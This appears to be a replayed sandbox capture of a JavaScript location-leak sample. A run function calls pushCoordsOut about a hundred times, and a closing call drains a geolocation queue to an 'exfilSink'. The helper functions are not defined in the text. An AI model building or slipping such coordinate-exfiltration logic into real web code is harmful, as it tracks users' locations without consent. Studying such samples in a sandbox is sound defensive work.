// replayed geolocationleak capture, variant a; the sandbox unrolls the flood loop
var run = function () {
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
    pushCoordsOut();
};
var fin = function () {
    drainGeoQueue(geoWatcher, exfilSink, coordsBuf);
};
run();
fin();
